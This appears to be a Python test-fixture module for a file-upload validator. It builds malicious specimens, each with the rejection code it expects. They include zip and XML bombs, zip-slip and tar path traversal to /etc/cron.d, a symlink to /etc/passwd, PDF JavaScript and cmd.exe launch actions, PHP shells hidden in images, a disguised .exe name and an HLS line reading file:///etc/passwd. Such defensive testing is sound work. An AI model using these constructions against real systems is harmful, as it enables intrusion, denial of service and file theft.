"""Files that mean harm, each with its fate: the code it is refused with, or KEPT for one that is made harmless."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from tests.files import (
    EICAR,
    MAINS,
    PAGE,
    PHP,
    SCRIPT,
    box,
    elsewhere,
    film,
    located_jpeg,
    office,
    pdf,
    picture,
    png,
    text_bomb_png,
    zipped,
)

KEPT = "kept"
MEGABYTE = 1024 * 1024
SVG = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()
JAVASCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ALERT = f"/Names << /JavaScript << /Names [(a) {JAVASCRIPT}] >> >>"
LAUNCH = "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>"
INSIDE = "<< /Type /EmbeddedFile /Length 4 >>\nstream\nEVIL\nendstream"
ATTACHED = "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>"
LOCK = f"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >> /ID [<00> <00>]"
BILLION = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("abcdefgh", "bcdefghi", strict=True)
)


@dataclass(frozen=True, slots=True)
class Specimen:
    """One file under the name it is sent with."""

    name: str
    make: Callable[[], bytes]
    fate: str


def _bomb_of_parts() -> bytes:
    return zipped({**office(), **{f"word/media/{n}.png": b"" for n in range(10_001)}}, packing=ZIP_STORED)


def _bomb_that_lies() -> bytes:
    """A part of 300 MB whose list says that it has ten bytes."""
    honest = zipped({**office(), "word/media/a.png": bytes(300 * MEGABYTE)})
    size = struct.pack("<I", 300 * MEGABYTE)
    assert honest.count(size) == 2
    return honest.replace(size, struct.pack("<I", 10))


def _nested(levels: int) -> bytes:
    inner = zipped(office("xlsx"))
    for _ in range(levels):
        inner = zipped({**office(), "word/embeddings/a.xlsx": inner})
    return inner


def _linked() -> bytes:
    content = io.BytesIO(zipped(office()))
    with ZipFile(content, "a") as archive:
        link = ZipInfo("word/media/a.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return content.getvalue()


def _twice() -> bytes:
    """Two parts of one name: two programs open two different documents."""
    content = io.BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED) as archive:
        for name, body in office().items():
            archive.writestr(name, body)
        archive.NameToInfo.clear()
        archive.writestr(MAINS["docx"][0], "<document/>")
    return content.getvalue()


def _encrypted() -> bytes:
    made = bytearray(zipped(office()))
    made[made.index(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def _tar() -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/cron.d/a"), io.BytesIO())
    return content.getvalue()


def _with(form: str, parts: dict[str, bytes | str]) -> Callable[[], bytes]:
    return lambda: zipped({**office(form), **parts})


def _many_boxes() -> bytes:
    return film(more=box("trak", *[box("free")] * 30_000))


def _deep_boxes() -> bytes:
    inner = b""
    for _ in range(400):
        inner = box("trak", inner)
    return film(more=inner)


PICTURES = (
    Specimen("bomb.png", lambda: png(12_000, 12_000), "picture_too_large"),  # 144 million pixels in 17 KB
    Specimen("long.png", lambda: png(900_000, 1), "picture_too_large"),
    Specimen("torn.png", lambda: picture("PNG", (900, 900))[:900], "picture_unreadable"),
    Specimen("textbomb.png", text_bomb_png, "picture_unreadable"),
    Specimen("gifar.jpg", lambda: picture() + zipped({"Evil.class": b"\xca\xfe\xba\xbe"}), KEPT),
    Specimen("shell.jpg", lambda: picture(comment=PHP) + PHP, KEPT),
    Specimen("page.jpg", lambda: picture(comment=PAGE), KEPT),
    Specimen("page.png", lambda: png(16, 16, Comment=SCRIPT) + PAGE, KEPT),
    Specimen("where.jpg", located_jpeg, KEPT),
    Specimen("moving.webp", lambda: picture("WEBP", save_all=True, xmp=PAGE), KEPT),
    Specimen("html.jpg", lambda: PAGE, "picture_unreadable"),
    Specimen("svg.png", lambda: SVG, "picture_unreadable"),
    Specimen("gif.png", lambda: picture("GIF"), "picture_unreadable"),
    Specimen("eps.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%pipe%id", "picture_unreadable"),
)
ENDINGS = (
    Specimen("script.svg", lambda: SVG, "type_other_picture"),
    Specimen(
        "foreign.svg", lambda: SVG.replace(SCRIPT.encode(), b"<foreignObject>x</foreignObject>"), "type_other_picture"
    ),
    Specimen("style.svg", lambda: b"<svg><style>@import url(http://198.51.100.1/)</style></svg>", "type_other_picture"),
    Specimen("packed.svgz", lambda: gzip.compress(SVG), "type_other_picture"),
    Specimen("page.html", lambda: PAGE, "type_unknown"),
    Specimen("price.pdf.html", lambda: PAGE, "type_unknown"),
    Specimen("报价\u202efdp.exe", lambda: b"MZ", "type_unknown"),
    Specimen("eicar.com", lambda: EICAR, "type_unknown"),
    Specimen("eicar.txt", lambda: EICAR, "type_unknown"),
    Specimen("noending", lambda: picture(), "type_unknown"),
    Specimen("bomb.gz", lambda: gzip.compress(bytes(32 * MEGABYTE)), "type_archive"),
    Specimen("slip.tar", _tar, "type_archive"),
    Specimen("archive.zip", lambda: zipped({"eicar.com": EICAR}), "type_archive"),
    Specimen("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "type_old_office"),
    Specimen("macro.docm", _with("docx", {}), "office_has_macros"),
    Specimen("empty.pdf", lambda: b"", "file_missing"),
)
OFFICE = (
    Specimen("slip.docx", _with("docx", {"../../../tmp/a.xml": "<a/>"}), "office_unreadable"),
    Specimen("absolute.docx", _with("docx", {"/etc/a.xml": "<a/>"}), "office_unreadable"),
    Specimen("drive.docx", _with("docx", {"C:\\a.xml": "<a/>"}), "office_unreadable"),
    Specimen("linked.docx", _linked, "office_unreadable"),
    Specimen("twice.docx", _twice, "office_unreadable"),
    Specimen("parts.docx", _bomb_of_parts, "archive_too_big"),
    Specimen("bomb.docx", _with("docx", {"word/media/a.png": bytes(150 * MEGABYTE)}), "archive_too_big"),
    Specimen("lies.docx", _bomb_that_lies, "office_unreadable"),
    Specimen("xmlbomb.docx", _with("docx", {"word/document.xml": f"{BILLION}]><d>&i;</d>"}), "office_unreadable"),
    Specimen(
        "xmlbomb.rels.docx", _with("docx", {"word/_rels/a.xml.rels": f"{BILLION}]><d>&i;</d>"}), "office_unreadable"
    ),
    Specimen(
        "reach.docx",
        _with("docx", {"word/a.xml": '<!DOCTYPE d SYSTEM "http://198.51.100.1/a.dtd"><d/>'}),
        "office_unreadable",
    ),
    Specimen("macro.docx", _with("docx", {"word/vbaProject.bin": b"\0"}), "office_has_macros"),
    Specimen("oldmacro.xlsx", _with("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "office_has_macros"),
    Specimen("control.pptx", _with("pptx", {"ppt/activeX/activeX1.xml": "<a/>"}), "office_has_macros"),
    Specimen("object.docx", _with("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "office_strange_part"),
    Specimen("eicar.docx", _with("docx", {"eicar.com": EICAR}), "office_strange_part"),
    Specimen(
        "template.docx",
        _with("docx", {"word/_rels/settings.xml.rels": elsewhere("attachedTemplate", "http://198.51.100.1/a.dotm")}),
        "office_elsewhere",
    ),
    Specimen(
        "share.pptx",
        _with("pptx", {"ppt/_rels/a.xml.rels": elsewhere("image", "file://198.51.100.1/share/a.png")}),
        "office_elsewhere",
    ),
    Specimen(
        "jslink.docx",
        _with("docx", {"word/_rels/document.xml.rels": elsewhere("hyperlink", "javascript:alert(1)")}),
        "office_elsewhere",
    ),
    Specimen("nested.docx", lambda: _nested(2), "office_strange_part"),
    Specimen("encrypted.docx", _encrypted, "office_locked"),
    Specimen("protected.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "office_locked"),
    Specimen("word.xlsx", _with("docx", {}), "type_differs"),
    Specimen("page.docx", lambda: PAGE + zipped(office()), "office_unreadable"),
    Specimen("tail.docx", lambda: zipped(office()) + PAGE, KEPT),
)
PDFS = (
    Specimen("page.pdf", lambda: PAGE, "pdf_unreadable"),
    Specimen("before.pdf", lambda: pdf(before=PAGE), "pdf_unreadable"),
    Specimen("behind.pdf", lambda: pdf() + PAGE, KEPT),
    Specimen("opens.pdf", lambda: pdf(catalog=f"/OpenAction {JAVASCRIPT} {ALERT}"), KEPT),
    Specimen("acts.pdf", lambda: pdf(page=f"/AA << /O {JAVASCRIPT} >>"), "pdf_active"),
    Specimen("hidden.pdf", lambda: pdf(page="/A#41 << /O << /S /JavaScr#69pt /#4AS (1) >> >>"), "pdf_active"),
    Specimen("launch.pdf", lambda: pdf(page="/Annots [5 0 R]", extra=(LAUNCH,)), KEPT),
    Specimen("attached.pdf", lambda: pdf(catalog=ATTACHED, extra=(INSIDE,)), KEPT),
    Specimen("long.pdf", lambda: pdf(5000), "pdf_too_long"),
    Specimen("locked.pdf", lambda: pdf(trailer=LOCK), "pdf_locked"),
    Specimen("torn.pdf", lambda: pdf()[:200], "pdf_unreadable"),
)
FILMS = (
    Specimen("where.mp4", lambda: film(), KEPT),
    Specimen("page.mp4", lambda: PAGE, "film_unreadable"),
    Specimen("list.mp4", lambda: b"#EXTM3U\nconcat:http://198.51.100.1/a|file:///etc/passwd", "film_unreadable"),
    Specimen(
        "elsewhere.mov", lambda: film("qt  ", source=box("url ", bytes(4), b"http://198.51.100.1/\0")), "film_elsewhere"
    ),
    Specimen("leads.mov", lambda: film("qt  ", more=box("rmra", b"http://198.51.100.1/")), "film_elsewhere"),
    Specimen("torn.mp4", lambda: film()[:-100], "film_unreadable"),
    Specimen("boxes.mp4", _many_boxes, "film_unreadable"),
    Specimen("deep.mp4", _deep_boxes, "film_unreadable"),
    Specimen("sound.mp4", lambda: film(handler=b"soun"), "film_unreadable"),
)
ALL = (*PICTURES, *ENDINGS, *OFFICE, *PDFS, *FILMS)
